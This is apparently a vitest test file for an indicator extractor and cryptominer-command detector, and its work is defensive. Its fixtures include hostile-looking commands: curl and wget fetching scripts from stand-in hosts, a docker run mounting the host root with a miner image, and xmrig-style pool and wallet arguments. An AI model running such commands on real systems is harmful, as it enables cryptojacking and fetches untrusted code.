// Indicator extraction: types, defanging, dedupe, TEST-NET and example.invalid kept, version strings refused.
import { describe, expect, it } from 'vitest';
import { extractIndicators, refang } from './extract.js';
import { isMinerCommand, minerArgSignals } from './miner-args.js';
import { splitShell } from '../shell/split.js';

const XMR = '4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK';
const pairs = (t: string, o = {}) => extractIndicators(t, o).map((i) => `${i.type}:${i.value}`);

describe('extractIndicators', () => {
  it('extracts urls with their hosts, TEST-NET ips and example.invalid domains', () => {
    expect(pairs('curl -s http://198.51.100.7:8080/x.sh; wget https://payload.example.invalid/d.sh; ping 192.0.2.1 203.0.113.9'))
      .toEqual(['url:http://198.51.100.7:8080/x.sh', 'ipv4:198.51.100.7', 'url:https://payload.example.invalid/d.sh',
        'domain:payload.example.invalid', 'ipv4:192.0.2.1', 'ipv4:203.0.113.9']);
  });
  it('refangs hxxp and [.]', () => {
    expect(refang('hxxp://a[.]example[.]invalid')).toBe('http://a.example.invalid');
    expect(pairs('hxxps://198.51.100[.]7/a')).toContain('ipv4:198.51.100.7');
  });
  it('does not take version strings, image tags, file names or times for indicators', () => {
    expect(pairs('alpine:3.18.4 node:20.1.2.3 APP_VERSION=1.2.3.4 version 1.2.3.4 v1.2.3.4 pkg-1.2.3.4 server.js d.sh ' +
      'config.json file.tar.gz minecraft_server.jar 12:30:45 aa:bb:cc:dd:ee:ff 1.02.3.4 0.0.0.0')).toEqual([]);
  });
  it('extracts ipv6, onion, hashes and wallets, deduplicated', () => {
    const onion = 'abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion';
    const r = extractIndicators(`2001:db8::1 [2001:db8::2]:2375 ${onion} d41d8cd98f00b204e9800998ecf8427e ${XMR} ${XMR} 2001:db8::1`);
    expect(r.map((i) => `${i.type}:${i.kind ?? ''}`)).toEqual(['wallet:xmr', `onion:`, 'ipv6:', 'ipv6:', 'hash:md5']);
    expect(r.find((i) => i.type === 'wallet')?.value).toBe(XMR);
  });
  it('reports stratum URLs and pool host:port as pools (port alone needs miner context)', () => {
    expect(pairs('-o stratum+tcp://198.51.100.4:3333')).toEqual(['pool:stratum+tcp://198.51.100.4:3333', 'ipv4:198.51.100.4']);
    expect(pairs('connect h.example.invalid:3333')).not.toContain('pool:h.example.invalid:3333');
    expect(pairs('connect h.example.invalid:3333', { minerContext: true })).toContain('pool:h.example.invalid:3333');
    expect(pairs('gulf.moneroocean.stream:10128')).toContain('pool:gulf.moneroocean.stream:10128');
  });
  it('extracts images from docker run/pull commands and uses miner context per command', () => {
    const r = extractIndicators(splitShell('docker run -d --name x -v /:/mnt zoolu2/miner:latest; ./x -o 198.51.100.9:4444 --donate-level 1'));
    expect(r.map((i) => `${i.type}:${i.value}`)).toEqual(['image:zoolu2/miner:latest', 'pool:198.51.100.9:4444', 'ipv4:198.51.100.9']);
    expect(r[0]?.location).toBe('script');
    const tls = extractIndicators(splitShell('./svc -o pool.example.invalid:443 --donate-level 1 -a rx/0'));
    expect(tls.map((i) => `${i.type}:${i.value}`)).toEqual(['domain:pool.example.invalid', 'pool:pool.example.invalid:443']);
  });
});

describe('miner arguments', () => {
  it('scores xmrig flags and ignores look-alike flags of other tools', () => {
    expect(isMinerCommand(['nginx', '-o', 'pool.example.invalid:3333', '-u', XMR, '-p', 'x'])).toBe(true);
    expect(isMinerCommand(['x', '--donate-level=1', '-a', 'rx/0'])).toBe(true);
    expect(minerArgSignals(['curl', '-o', 'file.tar.gz', '-u', 'me:pw', '-k'])).toEqual([]);
    expect(minerArgSignals(['ssh', '-o', 'StrictHostKeyChecking=no', '-p', '4444', '-t'])).toEqual([]);
    expect(minerArgSignals(['redis-server', '--port', '3333'])).toEqual([]);
  });
});
